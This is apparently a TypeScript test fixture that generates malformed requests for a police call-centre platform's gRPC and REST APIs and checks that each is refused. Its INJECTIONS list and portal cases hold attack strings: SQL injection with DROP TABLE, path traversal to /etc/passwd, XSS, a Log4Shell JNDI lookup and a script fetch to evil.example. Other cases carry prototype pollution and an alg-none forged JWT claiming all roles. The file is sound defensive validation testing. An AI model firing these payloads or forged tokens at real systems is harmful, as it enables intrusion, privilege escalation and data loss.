import { randomUUID } from 'node:crypto';
import * as protobuf from 'protobufjs';
import { INTAKE_PROTO_PATH } from '@callcenter/contracts';
import { mintDevelopmentToken, PlatformConfig } from '@callcenter/platform';
import { portalReport, testToken } from '@callcenter/testing';

/**
 * Generated malformed requests for every public API, each with the answer it must get. The suite
 * sends them all and checks each answer, that no process died, and that nothing was stored.
 */
export type MalformedCase =
  | {
      api: 'grpc';
      name: string;
      method: 'SubmitReport' | 'GetReportStatus';
      apiKey: string | null;
      request: Record<string, unknown> | Buffer;
      expect: number[];
    }
  | {
      api: 'rest';
      service: 'triage' | 'dispatch' | 'analytics' | 'portal';
      name: string;
      method: 'GET' | 'POST' | 'PATCH';
      path: string;
      token: string | null;
      body?: string | Buffer;
      contentType?: string;
      expect: number[];
      /** The portal's refusals: the field its 400 must name (`violations[].field`); every 4xx refusal must carry a message. */
      field?: string;
    };

export const GRPC = { INVALID_ARGUMENT: 3, NOT_FOUND: 5, PERMISSION_DENIED: 7, RESOURCE_EXHAUSTED: 8, INTERNAL: 13, UNAUTHENTICATED: 16 } as const;

const KEYS: Record<string, string> = {
  'mobile-app': 'dev-key-mobile-app-0001',
  'web-portal': 'dev-key-web-portal-0001',
  'hotline-110': 'dev-key-hotline-110-0001',
  'sms-gateway': 'dev-key-sms-gateway-0001',
  'whatsapp-gateway': 'dev-key-whatsapp-gw-0001',
};

/** Strings an attacker tries first: SQL, NoSQL operators, paths, scripts, template and log injection. */
export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE reports; --",
  '{"$gt": ""}',
  '$where: 1 == 1',
  '../../../etc/passwd',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  'line\r\nX-Injected: yes',
  '%00%0a',
];

const validReport = (overrides: Record<string, unknown> = {}) => ({
  source_system: 'mobile-app',
  external_id: `bad-input-${randomUUID()}`,
  channel: 'MOBILE_APP',
  reporter: { name: 'Siti Aminah', phone: '+6281234567890', anonymous: false },
  category_hint: 'KEBAKARAN',
  description: 'Kebakaran rumah di Jl. Tebet Raya 12, asap tebal',
  location: { latitude: -6.2297, longitude: 106.8532, address: 'Jl. Tebet Raya 12', district: 'Tebet' },
  people_injured: 0,
  people_involved: 1,
  ...overrides,
});

/** A SubmitReportRequest encoded by hand, so bytes a normal client would never send can be sent. */
function encodeWithBadUtf8(field: 'description' | 'name' | 'address'): Buffer {
  const root = protobuf.loadSync(INTAKE_PROTO_PATH);
  const type = root.lookupType('callcenter.intake.v1.SubmitReportRequest');
  const marker = 'QQQQQQQQQQQQ';
  const report: any = validReport({ channel: 2 });
  if (field === 'description') report.description = `Kebakaran ${marker}`;
  if (field === 'name') report.reporter.name = marker;
  if (field === 'address') report.location.address = marker;
  const bytes = Buffer.from(type.encode(type.fromObject(report)).finish());
  const at = bytes.indexOf(Buffer.from(marker));
  Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c]).copy(bytes, at);
  return bytes;
}

function grpcCases(): MalformedCase[] {
  const cases: MalformedCase[] = [];
  const submit = (name: string, request: Record<string, unknown> | Buffer, expect: number[], apiKey: string | null = KEYS['mobile-app']) =>
    cases.push({ api: 'grpc', name: `SubmitReport: ${name}`, method: 'SubmitReport', apiKey, request, expect });

  // Authentication and authorisation.
  for (const [label, key] of [
    ['no key', null],
    ['unknown key', 'not-a-key'],
    ['empty key', ''],
    ['a revoked-looking key', 'dev-key-mobile-app-0000'],
    ['an injection', INJECTIONS[0]],
  ] as const) {
    submit(label, validReport(), [GRPC.UNAUTHENTICATED], key);
  }
  for (const [system, key] of Object.entries(KEYS)) {
    for (const other of Object.keys(KEYS).filter((s) => s !== system)) {
      submit(`${system}'s key submitting as ${other}`, validReport({ source_system: other }), [GRPC.PERMISSION_DENIED], key);
    }
  }

  // Every field, wrong: types, ranges, formats, enums, missing, oversized, injections.
  const invalid: [string, Record<string, unknown>][] = [
    ['source_system empty', { source_system: '' }],
    ['source_system upper case', { source_system: 'MOBILE-APP' }],
    ['source_system too long', { source_system: 'm'.repeat(65) }],
    ['external_id empty', { external_id: '' }],
    ['external_id too long', { external_id: 'x'.repeat(129) }],
    ['external_id with a space', { external_id: 'ext 1' }],
    ['external_id not ASCII', { external_id: 'laporan-é' }],
    ['channel unspecified', { channel: 0 }],
    ['channel unknown number', { channel: 99 }],
    ['category_hint unknown number', { category_hint: 77 }],
    ['description empty', { description: '' }],
    ['description blank', { description: '   \n\t ' }],
    ['description too long', { description: 'x'.repeat(4001) }],
    ['description with NUL', { description: 'Kebakaran\u0000 rumah' }],
    ['description with an escape sequence', { description: 'Kebakaran \u001b[2J rumah' }],
    ['reporter missing', { reporter: undefined }],
    ['reporter phone not E.164', { reporter: { name: 'Siti', phone: '081234567890', anonymous: false } }],
    ['reporter phone with spaces', { reporter: { name: 'Siti', phone: '+62 812 3456 7890', anonymous: false } }],
    ['reporter phone letters', { reporter: { name: 'Siti', phone: '+62abc', anonymous: false } }],
    ['reporter name too long', { reporter: { name: 'S'.repeat(121), phone: '+6281234567890', anonymous: false } }],
    ['reporter name with control characters', { reporter: { name: 'Siti\u0007', phone: '+6281234567890', anonymous: false } }],
    ['location missing', { location: undefined }],
    ['location says nowhere', { location: {} }],
    ['latitude without longitude', { location: { latitude: -6.2 } }],
    ['latitude above 90', { location: { latitude: 91, longitude: 106.8 } }],
    ['latitude below -90', { location: { latitude: -90.5, longitude: 106.8 } }],
    ['longitude above 180', { location: { latitude: -6.2, longitude: 180.5 } }],
    ['latitude NaN', { location: { latitude: NaN, longitude: 106.8 } }],
    ['latitude infinite', { location: { latitude: Infinity, longitude: 106.8 } }],
    ['address too long', { location: { address: 'a'.repeat(301) } }],
    ['district too long', { location: { district: 'd'.repeat(101) } }],
    ['people_injured negative', { people_injured: -1 }],
    ['people_injured absurd', { people_injured: 10_001 }],
    ['people_involved absurd', { people_involved: 100_001 }],
    ['occurred_at in the future', { occurred_at: { seconds: String(Math.floor(Date.now() / 1000) + 86_400), nanos: 0 } }],
    ['occurred_at before 2000', { occurred_at: { seconds: '631152000', nanos: 0 } }],
  ];
  // Every calling system sends them, with its own key and channel.
  const systems: [string, string][] = [
    ['mobile-app', 'MOBILE_APP'],
    ['web-portal', 'WEB'],
    ['hotline-110', 'HOTLINE'],
    ['sms-gateway', 'SMS'],
    ['whatsapp-gateway', 'WHATSAPP'],
  ];
  for (const [system, channel] of systems) {
    for (const [name, change] of invalid) {
      submit(`${system}: ${name}`, validReport({ source_system: system, channel, ...change }), [GRPC.INVALID_ARGUMENT], KEYS[system]);
    }
  }
  INJECTIONS.forEach((text, i) => {
    submit(`injection in source_system #${i}`, validReport({ source_system: text }), [GRPC.INVALID_ARGUMENT]);
    if (/\s/.test(text) || /[^\x21-\x7e]/.test(text)) submit(`injection in external_id #${i}`, validReport({ external_id: text }), [GRPC.INVALID_ARGUMENT]);
    submit(`injection in phone #${i}`, validReport({ reporter: { name: 'x', phone: text, anonymous: false } }), [GRPC.INVALID_ARGUMENT]);
  });
  for (const field of ['description', 'name', 'address'] as const) submit(`bad UTF-8 in ${field}`, encodeWithBadUtf8(field), [GRPC.INVALID_ARGUMENT]);

  // Huge payloads: gRPC refuses anything over 64 KiB before the service sees it.
  for (const [name, change] of [
    ['description of 70 KiB', { description: 'x'.repeat(70 * 1024) }],
    ['address of 100 KiB', { location: { address: 'a'.repeat(100 * 1024) } }],
    ['reporter name of 1 MiB', { reporter: { name: 'n'.repeat(1024 * 1024), anonymous: false } }],
  ] as const) {
    submit(name, validReport(change as Record<string, unknown>), [GRPC.RESOURCE_EXHAUSTED]);
  }
  // Bytes that are no protobuf message at all.
  for (const [name, bytes] of [
    ['random bytes', Buffer.from(Array.from({ length: 64 }, (_, i) => (i * 97 + 13) % 256))],
    ['a truncated varint', Buffer.from([0x08, 0xff, 0xff, 0xff])],
    ['a length beyond the message', Buffer.from([0x0a, 0x7f, 0x61])],
    ['JSON instead of protobuf', Buffer.from(JSON.stringify(validReport()))],
  ] as const) {
    submit(name, bytes, [GRPC.INVALID_ARGUMENT, GRPC.INTERNAL]);
  }

  // Status lookups.
  for (const id of ['not-a-uuid', ...INJECTIONS]) {
    for (const field of ['report_id', 'tracking_code']) {
      cases.push({
        api: 'grpc',
        name: `GetReportStatus: ${field} ${JSON.stringify(id)}`,
        method: 'GetReportStatus',
        apiKey: KEYS['mobile-app'],
        request: { [field]: id },
        expect: [GRPC.INVALID_ARGUMENT],
      });
    }
  }
  cases.push({
    api: 'grpc',
    name: 'GetReportStatus: unknown report',
    method: 'GetReportStatus',
    apiKey: KEYS['mobile-app'],
    request: { report_id: randomUUID() },
    expect: [GRPC.NOT_FOUND],
  });
  cases.push({
    api: 'grpc',
    name: 'GetReportStatus: no key',
    method: 'GetReportStatus',
    apiKey: null,
    request: { report_id: randomUUID() },
    expect: [GRPC.UNAUTHENTICATED],
  });
  return cases;
}

interface Route {
  service: 'triage' | 'dispatch' | 'analytics';
  method: 'GET' | 'POST' | 'PATCH';
  path: string;
  roles: string[];
  /** A valid body, to be broken field by field. */
  body?: Record<string, unknown>;
}

const ID = '00000000-0000-4000-8000-00000000b00b';
/** Every stream a malformed request names: none of them may gain a commit. */
export const STREAMS_NAMED = [ID, '00000000-0000-4000-8000-00000000beef', 'PATROL-BAD-01', 'PATROL-X1', 'PATROL-X2', 'op-sari'];
const ROUTES: Route[] = [
  { service: 'triage', method: 'GET', path: '/api/v1/queue', roles: ['operator'] },
  { service: 'triage', method: 'GET', path: `/api/v1/reports/${ID}`, roles: ['operator'] },
  { service: 'triage', method: 'POST', path: `/api/v1/reports/${ID}/claim`, roles: ['operator'] },
  {
    service: 'triage',
    method: 'POST',
    path: `/api/v1/reports/${ID}/classify`,
    roles: ['operator'],
    body: { category: 'KEBAKARAN', priority: 'P1', district: 'TEBET' },
  },
  { service: 'triage', method: 'POST', path: `/api/v1/reports/${ID}/notes`, roles: ['operator'], body: { text: 'Pelapor menelepon ulang' } },
  {
    service: 'triage',
    method: 'POST',
    path: `/api/v1/reports/${ID}/duplicate`,
    roles: ['operator'],
    body: { duplicateOf: '00000000-0000-4000-8000-00000000beef' },
  },
  { service: 'triage', method: 'POST', path: `/api/v1/reports/${ID}/reject`, roles: ['operator'], body: { reason: 'PRANK', explanation: 'Penelepon iseng' } },
  { service: 'triage', method: 'POST', path: `/api/v1/reports/${ID}/advice`, roles: ['operator'], body: { advice: 'Datang ke Polsek terdekat' } },
  { service: 'triage', method: 'POST', path: `/api/v1/reports/${ID}/escalate`, roles: ['operator'], body: { reason: 'Butuh keputusan atasan' } },
  { service: 'triage', method: 'POST', path: `/api/v1/reports/${ID}/reassign`, roles: ['supervisor'], body: { operatorId: 'op-sari' } },
  { service: 'triage', method: 'POST', path: `/api/v1/reports/${ID}/split`, roles: ['supervisor'], body: { reason: 'Lokasi kejadian berbeda' } },
  { service: 'triage', method: 'GET', path: '/api/v1/supervisor/stats', roles: ['supervisor'] },
  {
    service: 'dispatch',
    method: 'POST',
    path: '/api/v1/units',
    roles: ['dispatcher'],
    body: { callSign: 'PATROL-BAD-01', type: 'PATROL_CAR', homeDistrict: 'TEBET', capabilities: ['FIRST_AID'], onShift: true },
  },
  { service: 'dispatch', method: 'PATCH', path: '/api/v1/units/PATROL-BAD-01', roles: ['dispatcher'], body: { onShift: true } },
  {
    service: 'dispatch',
    method: 'POST',
    path: '/api/v1/units/PATROL-BAD-01/status',
    roles: ['dispatcher'],
    body: { status: 'BUSY', latitude: -6.2, longitude: 106.8 },
  },
  { service: 'dispatch', method: 'GET', path: '/api/v1/units', roles: ['dispatcher'] },
  { service: 'dispatch', method: 'GET', path: '/api/v1/incidents', roles: ['dispatcher'] },
  { service: 'dispatch', method: 'POST', path: `/api/v1/incidents/${ID}/assign`, roles: ['dispatcher'], body: { unitId: 'PATROL-BAD-01' } },
  { service: 'dispatch', method: 'POST', path: `/api/v1/incidents/${ID}/decline`, roles: ['dispatcher'], body: { reason: 'Ban kempes' } },
  {
    service: 'dispatch',
    method: 'POST',
    path: `/api/v1/incidents/${ID}/resolve`,
    roles: ['dispatcher'],
    body: { outcome: 'HANDLED_ON_SCENE', summary: 'Selesai ditangani' },
  },
  { service: 'analytics', method: 'GET', path: '/api/v1/stats/volume', roles: ['analyst'] },
  { service: 'analytics', method: 'GET', path: '/api/v1/stats/durations', roles: ['analyst'] },
  { service: 'analytics', method: 'GET', path: '/api/v1/stats/hotspots', roles: ['analyst'] },
  { service: 'analytics', method: 'GET', path: `/api/v1/reports/${ID}/timeline`, roles: ['analyst'] },
  { service: 'analytics', method: 'POST', path: '/api/v1/admin/rebuild', roles: ['admin'] },
];

/** A role that may not use the route. */
const wrongRole = (route: Route) =>
  route.service === 'analytics'
    ? route.roles.includes('admin')
      ? 'analyst'
      : 'operator'
    : route.service === 'triage'
      ? route.roles.includes('supervisor')
        ? 'operator'
        : 'dispatcher'
      : 'analyst';

function restCases(): MalformedCase[] {
  const cases: MalformedCase[] = [];
  const secret = new PlatformConfig().AUTH_JWT_SECRET;
  const expired = mintDevelopmentToken({ NODE_ENV: 'test', DEV_AUTH: true, HTTP_HOST: '127.0.0.1', AUTH_JWT_SECRET: secret }, {
    sub: 'op-old',
    roles: ['operator'],
    ttlSeconds: -60,
  } as any);
  const unsigned = (() => {
    const b64 = (o: object) => Buffer.from(JSON.stringify(o)).toString('base64url');
    return `${b64({ alg: 'none', typ: 'JWT' })}.${b64({ sub: 'op-x', roles: ['operator', 'supervisor', 'dispatcher', 'analyst', 'admin'], iss: 'polres-callcenter', exp: 4102444800 })}.`;
  })();
  const badTokens: [string, string | null][] = [
    ['no token', null],
    ['an empty bearer', ''],
    ['not a JWT', 'not.a.jwt'],
    ['a JWT with alg none', unsigned],
    [
      'a token signed with another secret',
      testToken('op-x', ['operator', 'supervisor', 'dispatcher', 'analyst', 'admin'], 'another-secret-that-is-long-enough'),
    ],
    ['an expired token', expired],
    ['an injection as token', INJECTIONS[1]],
  ];
  for (const route of ROUTES) {
    const good = testToken(`bad-input-${route.roles[0]}`, route.roles as any);
    const body = route.body ? JSON.stringify(route.body) : undefined;
    const rest = (name: string, expect: number[], extra: Partial<Extract<MalformedCase, { api: 'rest' }>> = {}) =>
      cases.push({
        api: 'rest',
        service: route.service,
        name: `${route.method} ${route.path}: ${name}`,
        method: route.method,
        path: route.path,
        token: good,
        body,
        expect,
        ...extra,
      });

    for (const [name, token] of badTokens) rest(name, [401], { token: token === '' ? 'Bearer ' : token, body });
    rest(`role ${wrongRole(route)}`, [403], { token: testToken('bad-input-wrong', [wrongRole(route)] as any) });

    if (route.method === 'GET' && route.path.includes('/stats/')) {
      for (const q of [
        'from=yesterday',
        'to=2026-13-45T00:00:00Z',
        'from=2026-11-02T00:00:00Z&to=2026-11-01T00:00:00Z',
        'priority=P0',
        'category=crime',
        'channel=FAX',
        'district=tebet',
        'format=xml',
        'priority[$ne]=P1',
        ...INJECTIONS.map((s) => `district=${encodeURIComponent(s)}`),
      ]) {
        rest(`query ${q}`, [400], { path: `${route.path}?${q}` });
      }
    }
    // Paging is shared (@PageOffset, @PageLimit): whole numbers in range only.
    if (route.path === '/api/v1/incidents') {
      for (const q of ['limit=0', 'limit=501', 'limit=2.5', 'offset=-1', 'offset=1.5', 'offset=lima', 'status=PARKED']) {
        rest(`query ${q}`, [400], { path: `${route.path}?${q}` });
      }
    }
    if (route.path === '/api/v1/queue') {
      for (const q of [
        'limit=0',
        'limit=201',
        'limit=ten',
        'limit=2.5',
        'offset=-1',
        'status=REJECTED',
        'flagged=maybe',
        'claimedBy=%20',
        ...INJECTIONS.map((s) => `district=${encodeURIComponent(s)}`),
        ...INJECTIONS.map((s) => `claimedBy=${encodeURIComponent(s)}`),
      ]) {
        rest(`query ${q}`, [400], { path: `${route.path}?${q}` });
      }
    }
    if (route.path.includes('PATROL-BAD-01')) {
      for (const bad of ['patrol bad', 'X', ...INJECTIONS])
        rest(`unit id ${JSON.stringify(bad)}`, [400, 404], { path: route.path.replace('PATROL-BAD-01', encodeURIComponent(bad)) });
    }
    if (route.path.includes(ID)) {
      for (const bad of ['not-a-uuid', '12345', ...INJECTIONS])
        rest(`id ${JSON.stringify(bad)}`, [400, 404], { path: route.path.replace(ID, encodeURIComponent(bad)) });
    }
    if (!route.body) continue;

    // Broken bodies: not JSON, wrong content, too large.
    for (const [name, raw] of [
      ['truncated JSON', body!.slice(0, -3)],
      ['JSON with a trailing comma', body!.replace(/}$/, ',}')],
      ['single quotes', body!.replace(/"/g, "'")],
      ['a JSON array', `[${body}]`],
      ['a JSON string', '"hello"'],
      ['JSON null', 'null'],
    ] as const) {
      rest(name, [400], { body: raw });
    }
    // An empty change is a valid PATCH; the unit then does not exist.
    rest('an empty object', route.method === 'PATCH' ? [404] : [400], { body: '{}' });
    rest('a body over 64 KiB', [413], { body: JSON.stringify({ ...route.body, pad: 'x'.repeat(70 * 1024) }) });
    rest('an unexpected field', [400], { body: JSON.stringify({ ...route.body, isAdmin: true }) });
    rest('a prototype-pollution attempt', [400], { body: `{"__proto__":{"isAdmin":true},${body!.slice(1)}` });

    // Each field: missing (when required), wrong types, injections.
    for (const field of Object.keys(route.body)) {
      const optional = ['district', 'capabilities', 'onShift', 'latitude', 'longitude', 'status'].includes(field) || route.method === 'PATCH';
      if (!optional) rest(`${field} missing`, [400], { body: JSON.stringify({ ...route.body, [field]: undefined }) });
      for (const [label, value] of [
        ['a number', 12345],
        ['an array', ['a', 'b']],
        ['an object', { $gt: '' }],
        ['null', null],
        ['true', true],
      ] as const) {
        if (optional && label === 'null') continue;
        if (label === 'true' && typeof (route.body as any)[field] === 'boolean') continue;
        rest(`${field} as ${label}`, [400], { body: JSON.stringify({ ...route.body, [field]: value }) });
      }
      if (typeof (route.body as any)[field] === 'string') {
        INJECTIONS.forEach((text, i) => {
          // Free text may contain anything printable; only formatted fields must refuse these.
          if (['text', 'explanation', 'advice', 'reason', 'summary'].includes(field)) return;
          rest(`${field} injection #${i}`, [400], { body: JSON.stringify({ ...route.body, [field]: text }) });
        });
        rest(`${field} with bad UTF-8`, [400], {
          body: Buffer.concat([
            Buffer.from(JSON.stringify({ ...route.body, [field]: 'QQQQ' }).split('QQQQ')[0]),
            Buffer.from([0xff, 0xfe, 0xc3, 0x28]),
            Buffer.from(JSON.stringify({ ...route.body, [field]: 'QQQQ' }).split('QQQQ')[1]),
          ]),
        });
        rest(`${field} with a NUL`, [400], { body: JSON.stringify({ ...route.body, [field]: `${(route.body as any)[field]}\u0000` }) });
        rest(`${field} of 5,000 characters`, [400], { body: JSON.stringify({ ...route.body, [field]: 'x'.repeat(5_000) }) });
      }
    }
  }
  return cases;
}

/** JSON of `value` with the marker QQQQ replaced by raw bytes no UTF-8 decoder accepts. */
const withBadUtf8 = (value: object) => {
  const [before, after] = JSON.stringify(value).split('QQQQ');
  return Buffer.concat([Buffer.from(before), Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xa0, 0xa1]), Buffer.from(after)]);
};

/**
 * The citizens' portal (no token: it is public). The report POST (and its check step), the follow
 * look-up by tracking code and the public statistics. Free text (description, name, address) may
 * hold anything printable — a `<script>` there is text, escaped wherever it is shown — so script
 * tags and injections go to the formatted fields, which must refuse them. The flood of one IP is a
 * test of its own (it needs an exhausted allowance).
 */
function portalCases(): MalformedCase[] {
  const cases: MalformedCase[] = [];
  const base = { api: 'rest' as const, service: 'portal' as const, token: null };
  for (const path of ['/api/public/reports', '/api/public/reports/check', '/api/public/reports?lang=en']) {
    const post = (name: string, body: string | Buffer, expect: number[], field?: string, contentType?: string) =>
      cases.push({ ...base, name: `POST ${path}: ${name}`, method: 'POST', path, body, expect, field, contentType });
    const report = (name: string, overrides: Record<string, unknown>, field: string) => post(name, JSON.stringify(portalReport(overrides)), [400], field);
    const at = (location: Record<string, unknown>) => ({ location: { address: 'Jl. Tebet Raya 12', ...location } });

    // Missing fields.
    report('idempotencyKey missing', { idempotencyKey: undefined }, 'idempotencyKey');
    report('category missing', { category: undefined }, 'category');
    report('description missing', { description: undefined }, 'description');
    report('location missing', { location: undefined }, 'location');
    report('location says nowhere', { location: {} }, 'location');
    report('location blank', { location: { address: '   ', district: '' } }, 'location');
    // Wrong types.
    for (const [label, value] of [
      ['a number', 12345],
      ['an array', ['KEBAKARAN']],
      ['an object', { $gt: '' }],
      ['true', true],
      ['null', null],
    ] as const) {
      report(`category as ${label}`, { category: value }, 'category');
      report(`idempotencyKey as ${label}`, { idempotencyKey: value }, 'idempotencyKey');
      if (label !== 'null') report(`description as ${label}`, { description: value }, 'description');
      if (label !== 'null') report(`peopleInjured as ${label}`, { peopleInjured: value }, 'peopleInjured');
      if (label !== 'null') report(`phone as ${label}`, { phone: value }, 'phone');
      if (label !== 'null') report(`name as ${label}`, { name: value }, 'name');
      if (label !== 'null') report(`location.district as ${label}`, at({ district: value }), 'location.district');
      if (label !== 'null') report(`location.latitude as ${label}`, at({ latitude: value, longitude: 106.85 }), 'location.latitude');
    }
    report('category in lower case', { category: 'kebakaran' }, 'category');
    report('peopleInjured negative', { peopleInjured: -1 }, 'peopleInjured');
    report('peopleInjured fractional', { peopleInjured: 1.5 }, 'peopleInjured');
    report('peopleInjured absurd', { peopleInjured: 1001 }, 'peopleInjured');
    report('peopleInjured as words', { peopleInjured: 'dua' }, 'peopleInjured');
    report('idempotencyKey too short', { idempotencyKey: 'abc' }, 'idempotencyKey');
    report('idempotencyKey too long', { idempotencyKey: 'a'.repeat(65) }, 'idempotencyKey');
    report('district not of this Polres', at({ district: 'MENTENG' }), 'location.district');
    report('phone too short', { phone: '0812' }, 'phone');
    report('phone with letters', { phone: '0812-ABCD-7890' }, 'phone');
    // Bad coordinates.
    for (const [label, location] of [
      ['latitude above 90', { latitude: 91, longitude: 106.85 }],
      ['latitude below -90', { latitude: -90.5, longitude: 106.85 }],
      ['longitude above 180', { latitude: -6.23, longitude: 180.5 }],
      ['longitude below -180', { latitude: -6.23, longitude: -181 }],
      ['latitude without longitude', { latitude: -6.23 }],
      ['longitude without latitude', { longitude: 106.85 }],
      ['latitude 1e308', { latitude: 1e308, longitude: 106.85 }],
      ['latitude as a numeric string', { latitude: '-6.23', longitude: '106.85' }],
      ['latitude "NaN"', { latitude: 'NaN', longitude: 106.85 }],
      ['latitude "Infinity"', { latitude: 'Infinity', longitude: 106.85 }],
      ['coordinates null and a number', { latitude: null, longitude: 106.85 }],
    ] as const) {
      report(label, at(location), 'location.latitude');
    }
    // Oversized.
    report('description of 4,001 characters', { description: 'x'.repeat(4_001) }, 'description');
    report('description of 15,000 characters (under the body limit)', { description: 'Kebakaran '.repeat(1_500) }, 'description');
    report('address of 301 characters', at({ address: 'a'.repeat(301) }), 'location.address');
    report('name of 121 characters', { name: 'S'.repeat(121) }, 'name');
    post("a body over the portal's 16 KiB", JSON.stringify(portalReport({ description: 'x'.repeat(3_000), pad: 'x'.repeat(17 * 1024) })), [413]);
    post('a body over 64 KiB', JSON.stringify(portalReport({ description: 'x'.repeat(70 * 1024) })), [413]);
    // Script tags and injections where the field has a format.
    INJECTIONS.forEach((text, i) => {
      report(`category injection #${i}`, { category: text }, 'category');
      report(`district injection #${i}`, at({ district: text }), 'location.district');
      report(`phone injection #${i}`, { phone: text }, 'phone');
      report(`idempotencyKey injection #${i}`, { idempotencyKey: `${text}-0123456789abcdef` }, 'idempotencyKey');
    });
    report('a script tag as the phone', { phone: '<script>fetch("//evil.example")</script>' }, 'phone');
    report('a script tag with an event handler as the district', at({ district: '<img src=x onerror=alert(1)>' }), 'location.district');
    // Bad UTF-8 and control characters in the free text.
    for (const [field, where] of [
      ['description', { description: 'QQQQ' }],
      ['name', { name: 'QQQQ' }],
      ['location.address', at({ address: 'QQQQ' })],
      ['phone', { phone: 'QQQQ' }],
    ] as const) {
      post(`${field} with bad UTF-8`, withBadUtf8(portalReport(where)), [400], field);
    }
    for (const [label, ch] of [
      ['a NUL', '\u0000'],
      ['an escape sequence', '\u001b[2J'],
      ['a bell', '\u0007'],
      ['DEL', '\u007f'],
      ['a lone surrogate', '\ud800'],
    ] as const) {
      report(`description with ${label}`, { description: `Kebakaran rumah ${ch} di gang sempit` }, 'description');
      report(`name with ${label}`, { name: `Rina${ch}` }, 'name');
      report(`address with ${label}`, at({ address: `Jl. Tebet ${ch} Raya` }), 'location.address');
    }
    // Broken bodies.
    const body = JSON.stringify(portalReport());
    for (const [name, raw] of [
      ['truncated JSON', body.slice(0, -3)],
      ['JSON with a trailing comma', body.replace(/}$/, ',}')],
      ['single quotes', body.replace(/"/g, "'")],
      ['a JSON string', '"hello"'],
      ['JSON null', 'null'],
      ['an empty object', '{}'],
      ['an empty array', '[]'],
      ['a prototype-pollution attempt', `{"__proto__":{"isAdmin":true},${body.slice(1)}`],
    ] as const) {
      post(name, raw, [400]);
    }
    post('the report as text/plain', body, [400], 'idempotencyKey', 'text/plain');
    post(
      'the report as a form',
      new URLSearchParams({ category: 'KEBAKARAN', description: 'Kebakaran rumah di gang' }).toString(),
      [400],
      'idempotencyKey',
      'application/x-www-form-urlencoded',
    );
  }
  // A bot that fills the honeypot is thanked with a decoy code; nothing reaches intake.
  cases.push({
    ...base,
    name: 'POST /api/public/reports: the honeypot filled',
    method: 'POST',
    path: '/api/public/reports',
    body: JSON.stringify(portalReport({ website: 'http://spam.example' })),
    expect: [201],
  });

  // Following by tracking code: anything not shaped like a code is refused before intake is asked.
  for (const bad of ['ABC', 'A'.repeat(30), '-ABCDE-FGHJ', 'ABCDE_FGHJK', 'ÄBCDE-FGHJK', '<script>alert(1)</script>', 'ABCDE-FGHJK\u0000', ...INJECTIONS]) {
    for (const suffix of ['', '/live', '?lang=en']) {
      const path = `/api/public/reports/${encodeURIComponent(bad)}${suffix}`;
      cases.push({ ...base, name: `GET ${path}`, method: 'GET', path, expect: [400], field: 'trackingCode' });
    }
  }
  // Public statistics: from/to are months.
  for (const field of ['from', 'to'] as const) {
    for (const bad of ['yesterday', '2026-13', '2026-1', '1999-01', '2026-11-01', '2026-11-01T00:00:00Z', '', '<script>alert(1)</script>', ...INJECTIONS]) {
      const path = `/api/public/stats?${field}=${encodeURIComponent(bad)}`;
      cases.push({ ...base, name: `GET ${path}`, method: 'GET', path, expect: [400], field });
    }
    const path = `/api/public/stats?${field}=2026-01&${field}=2026-02`;
    cases.push({ ...base, name: `GET ${path} (twice)`, method: 'GET', path, expect: [400], field });
  }
  return cases;
}

export function malformedRequests(): MalformedCase[] {
  return [...grpcCases(), ...restCases(), ...portalCases()];
}
